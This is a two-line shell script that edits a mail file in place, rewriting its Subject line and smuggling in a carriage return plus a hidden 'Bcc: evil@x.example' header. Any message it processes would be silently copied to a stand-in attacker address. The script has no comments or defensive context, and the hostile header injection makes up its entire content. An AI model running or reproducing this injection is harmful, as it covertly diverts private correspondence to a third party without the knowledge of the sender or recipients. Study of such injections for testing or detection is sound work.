#!/bin/sh
sed -i "s/^Subject: .*/Subject: Hello\rBcc: evil@x.example/" "$1"
